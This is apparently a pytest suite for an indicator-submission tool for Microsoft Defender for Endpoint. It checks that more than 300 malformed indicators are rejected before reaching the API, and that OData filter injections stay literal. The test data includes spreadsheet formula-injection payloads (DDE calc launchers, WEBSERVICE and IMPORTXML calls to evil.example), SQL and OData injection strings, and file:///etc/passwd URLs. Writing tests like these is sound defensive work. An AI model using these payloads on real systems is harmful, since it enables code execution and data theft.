"""Bad input never reaches the API: 300+ malformed values through the core (CLI) path and the Splunk command,
each settled as invalid with a named reason; OData injection through filters stays inside the literal."""

from __future__ import annotations

import json
from typing import Dict, List, Tuple

import pytest
from click.testing import CliRunner

from mde_emulator import EmulatorServer
from mde_indicators.cli import main
from mde_indicators.service import IndicatorService
from mde_testkit.splunk.harness import SplunkHarness

SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
HASHES = {"FileMd5": 32, "FileSha1": 40, "FileSha256": 64, "CertificateThumbprint": 40}
Case = Tuple[str, str, str]  # (category, type, value)


def malformed_hashes() -> List[Case]:
    cases = []
    for itype, length in HASHES.items():
        good = SHA256[:length]
        variants = [
            good[:-1],
            good + "a",
            good[: length // 2],
            good * 2,
            good[:-1] + "g",
            good[:-1] + "z",
            "0x" + good[:-2],
            "sha256:" + good,
            good[:10] + "-" + good[11:],
            good[:-1] + "=",
            good.replace("e", "é", 1),
            "G" * length,
        ]
        cases += [("malformed hash", itype, v) for v in variants]
    return cases


def cidr_and_ranges() -> List[Case]:
    values = [
        "1.2.3.0/24",
        "8.8.8.8/32",
        "10.0.0.0/8",
        "185.220.101.0/24",
        "0.0.0.0/0",
        "2001:4860::/32",
        "2001:4860:4860::8888/128",
        "::/0",
        "1.2.3.4-1.2.3.9",
        "1.2.3.4 - 1.2.3.9",
        "185.220.101.1-185.220.101.254",
        "1.2.3.*",
        "1.2.*.*",
        "8.8.8.0-255",
        "2a03:b0c0::1-2a03:b0c0::ff",
        "1.2.3.4/33",
        "52.1.1.1/31",
        "100.1.1.0/25",
        "1.1.1.1,1.0.0.1",
        "8.8.8.8 8.8.4.4",
    ]
    return [("CIDR or range", "IpAddress", v) for v in values]


def private_and_reserved() -> List[Case]:
    values = [
        "10.0.0.1",
        "10.255.255.254",
        "172.16.0.1",
        "172.31.255.254",
        "192.168.0.1",
        "192.168.255.255",
        "127.0.0.1",
        "127.8.9.10",
        "169.254.1.1",
        "169.254.169.254",
        "224.0.0.1",
        "239.1.2.3",
        "0.0.0.0",
        "0.1.2.3",
        "255.255.255.255",
        "240.1.2.3",
        "100.64.1.1",
        "100.127.255.254",
        "192.0.2.1",
        "198.51.100.200",
        "203.0.113.50",
        "198.18.5.5",
        "192.0.0.8",
        "::1",
        "::",
        "fe80::1",
        "fe80::abcd:1234",
        "fc00::1",
        "fd00:1234::5",
        "ff02::1",
        "ff05::2",
        "2001:db8::1",
        "2001:db8:85a3::8a2e:370:7334",
        "::ffff:10.0.0.1",
        "::ffff:8.8.8.8",
        "64:ff9b::a00:1",
        "100::1",
        "2001:10::1",
        "2002:a00:1::1",
        "fe80::1%eth0",
    ]
    return [("private or reserved IP", "IpAddress", v) for v in values]


def wildcard_domains() -> List[Case]:
    values = [
        "*.example.com",
        "*.evil.example",
        "ex*mple.com",
        "*example.com",
        "example.*",
        "*.*.example.org",
        "a.*.example.net",
        "*",
        "*.com",
        "mail.*.example.co.uk",
        "%.example.com",
        "?.example.com",
        "example.com*",
        "*.xn--bcher-kva.example",
        "**.example.com",
    ]
    return [("wildcard domain", "DomainName", v) for v in values]


def homographs() -> List[Case]:
    values = [
        "pаypal.com",
        "аpple.com",
        "аррӏе.com",
        "micrоsoft.com",
        "gооgle.com",
        "gοogle.com",
        "amazοn.com",
        "faсebook.com",
        "linkedіn.com",
        "оffice.com",
        "login.micrоsoftonline.com",
        "раураӏ.com",
        "gооgle.net",
        "bаnk.example",
        "sесurity.example",
        "xn--pypal-4ve.com.аpple.com",
        "twіtter.com",
        "netfliх.com",
        "dropbοx.com",
        "githuь.com",
    ]
    return [("IDN homograph", "DomainName", v) for v in values] + [
        ("IDN homograph", "Url", f"https://{v}/login") for v in values[:10]
    ]


def credential_urls() -> List[Case]:
    values = [
        "https://user:pass@example.com/",
        "http://admin@evil.example/x",
        "https://a:b@c.example/d?e=f",
        "https://user%40corp:p@example.com",
        "http://:@example.com/",
        "https://token@github.example/",
        "http://user:pw@185.220.101.45/",
        "https://u:p@[2001:4860:4860::8888]/",
        "https://x@y@example.com/",
        "ftp://user:pass@example.com/",
        "https://me:secret@login.example.org/path",
        "http://root:toor@evil.example:8080/",
        "https://a@b.example",
        "https://user:@example.com/",
        "https://:pass@example.com/",
    ]
    return [("URL with credentials", "Url", v) for v in values]


def spaces_and_newlines() -> List[Case]:
    out: List[Case] = []
    for itype, value in (
        ("FileSha256", SHA256),
        ("IpAddress", "185.220.101.45"),
        ("DomainName", "evil.example.com"),
        ("Url", "https://evil.example.com/a/b"),
    ):
        middle = len(value) // 2
        for sep in (" ", "\n", "\r\n", "\t", "\u00a0"):
            out.append(("space or newline", itype, value[:middle] + sep + value[middle:]))
    out += [
        ("space or newline", "Url", "https://example.com/path with space"),
        ("space or newline", "DomainName", "evil .example.com"),
        ("space or newline", "Url", "https://example.com/\n/etc/passwd"),
    ]
    return out


def oversized() -> List[Case]:
    return [
        ("oversized", "DomainName", "a" * 300 + ".com"),
        ("oversized", "DomainName", ".".join(["label"] * 60) + ".com"),
        ("oversized", "DomainName", "x" * 64 + ".example.com"),
        ("oversized", "Url", "https://example.com/" + "a" * 3000),
        ("oversized", "Url", "https://" + "a" * 300 + ".com/"),
        ("oversized", "FileSha256", SHA256 * 100),
        ("oversized", "IpAddress", "1" * 5000),
        ("oversized", "Url", "https://example.com/?" + "q=1&" * 1000),
        ("oversized", "DomainName", "a" * 100_000),
        ("oversized", "FileMd5", "a" * 1_000_000),
    ]


def control_characters() -> List[Case]:
    chars = [chr(c) for c in range(0, 32) if chr(c) not in "\t\n\r"] + [
        "\x7f",
        "\x85",
        "\u200b",
        "\u200e",
        "\u202e",
        "\u2066",
        "\ufeff",
        "\u2028",
    ]
    out: List[Case] = []
    for n, ch in enumerate(chars):
        itype, value = [
            ("DomainName", "evil.example.com"),
            ("Url", "https://evil.example.com/x"),
            ("FileSha256", SHA256),
        ][n % 3]
        out.append(("control character", itype, value[:5] + ch + value[5:]))
    return out


def formula_injection() -> List[Case]:
    values = [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example","x")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+2",
        '=IMPORTXML(CONCAT("http://evil.example/?", A1),"//a")',
        "\t=1+1",
        "\r=1+1",
        '=DDE("cmd";"/C calc";"!A0")',
        "+cmd|' /C notepad'!A0",
        "-cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        '=WEBSERVICE("http://evil.example")',
        "=1;2",
    ]
    typed = [(t, v) for v in values[:10] for t in ("DomainName", "Url")]
    return [("formula injection", "auto", v) for v in values] + [
        ("formula injection", t, v) for t, v in typed
    ]


def malformed_domains_urls_and_ips() -> List[Case]:
    domains = [
        "-bad.example",
        "bad-.example",
        "bad..example",
        "localhost",
        "intranet",
        "example.123",
        "exa$mple.com",
        "a@b.example",
        "example.com:443",
        "http://evil.example",
        "evil.example/path",
        "8.8.8.8",
        ".example.com",
        "xn--.example",
        "exa mple.com",
        "example.c",
    ]
    urls = [
        "evil.example/path",
        "ftp://evil.example/x",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,<script>",
        "https:///nohost",
        "http://",
        "https:\\\\evil.example\\x",
        "https://evil.example:99999/",
        "https://evil.example:port/",
        "https://10.0.0.5/admin",
        "http://127.0.0.1:8080/",
        "https://localhost/x",
        "gopher://evil.example/",
    ]
    ips = [
        "256.1.1.1",
        "1.2.3",
        "01.2.3.4",
        "1.2.3.4.5",
        "::g",
        "1:2:3:4:5:6:7:8:9",
        "evil.example",
        "1.2.3.4:80",
        "[2001:4860:4860::8888]",
        "0x08080808",
    ]
    return (
        [("malformed domain", "DomainName", v) for v in domains]
        + [("malformed URL", "Url", v) for v in urls]
        + [("malformed IP", "IpAddress", v) for v in ips]
    )


CASES: List[Case] = (
    malformed_hashes() + cidr_and_ranges() + private_and_reserved() + wildcard_domains() + homographs()
    + credential_urls() + spaces_and_newlines() + oversized() + control_characters() + formula_injection()
    + malformed_domains_urls_and_ips()
)  # fmt: skip
REPORT: Dict[str, int] = {}


def test_there_are_more_than_300_distinct_cases() -> None:
    assert len(CASES) >= 300 and len({(t, v) for _, t, v in CASES}) == len(CASES)


def items() -> List[Dict[str, str]]:
    return [{"indicatorValue": v, "indicatorType": t, "action": "Allowed"} for _, t, v in CASES]


def test_none_reaches_the_api_through_the_core(
    emulator: EmulatorServer, service: IndicatorService
) -> None:
    results = service.import_indicators(items())
    assert len(results) == len(CASES)
    not_invalid = [
        (c, r.status.value) for c, r in zip(CASES, results) if r.status.value != "invalid"
    ]
    assert not_invalid == []
    assert all(r.reason_code and r.reason for r in results)
    assert [
        e for e in emulator.requests_log() if e.get("op") != "token" and e.get("op") != "oidc"
    ] == []
    REPORT["core"] = len(results)


def test_none_reaches_the_api_through_mdesubmit(
    emulator: EmulatorServer, splunk: SplunkHarness
) -> None:
    rows = [{"indicator": v, "kind": t} for _, t, v in CASES]
    run = splunk.run(
        "mdesubmit field=indicator type_field=kind action=Allowed account=reliability",
        rows,
        chunk_size=100,
    )
    assert run.returncode == 0, run.errors() or run.stderr[-1000:]
    assert len(run.rows) == len(rows)
    assert {r["mde_status"] for r in run.rows} == {"invalid"}
    assert all(r["mde_error"] for r in run.rows)
    assert [e for e in emulator.requests_log() if e.get("op") == "ImportIndicators"] == []
    REPORT["mdesubmit"] = len(run.rows)


INJECTIONS = [
    "x' or indicatorValue ne 'y",
    "x') or (1 eq 1",
    "' or '1' eq '1",
    "x' or true or 'a' eq 'a",
    "x'; DROP TABLE indicators; --",
    "x' and contains(title,'",
    "%27 or 1 eq 1",
    "x'%20or%20'1'%20eq%20'1",
    "''",
    "x\\' or 1 eq 1",
    "x' eq 'x' or indicatorType ne 'z",
    "$filter=indicatorValue ne ''",
    "x'&$top=10000&$filter=indicatorValue ne '",
    "x' or indicatorValue/any(v: v ne '')",
    "not(indicatorValue eq 'x')",
]


@pytest.fixture()
def seeded(emulator: EmulatorServer, emulator_env: Dict[str, str]) -> Dict[str, str]:
    emulator.admin("POST", "seed", {"clientId": emulator_env["MDE_CLIENT_ID"], "count": 3})
    return emulator_env


@pytest.mark.parametrize("injection", INJECTIONS)
def test_odata_injection_through_the_cli_filter_stays_a_literal(
    injection: str, seeded: Dict[str, str], emulator: EmulatorServer
) -> None:
    done = CliRunner().invoke(
        main, ["list", "--value", injection, "--json"], env=seeded, catch_exceptions=False
    )
    assert (
        done.exit_code == 0
        and json.loads(done.stdout if hasattr(done, "stdout") else done.output) == []
    )
    (call,) = [e for e in emulator.requests_log() if e.get("op") == "ListIndicators"]
    assert call["status"] == 200


@pytest.mark.parametrize("injection", INJECTIONS[:8])
def test_odata_injection_through_mdelist_stays_a_literal(
    injection: str, emulator: EmulatorServer, splunk: SplunkHarness, emulator_env: Dict[str, str]
) -> None:
    emulator.admin("POST", "seed", {"clientId": emulator_env["MDE_CLIENT_ID"], "count": 3})
    quoted = injection.replace('"', '\\"')
    run = splunk.run(f'mdelist value="{quoted}" account=reliability')
    assert [r for r in run.rows if r.get("indicatorValue")] == []
    assert all(
        e["status"] in (200, 400)
        for e in emulator.requests_log()
        if e.get("op") == "ListIndicators"
    )
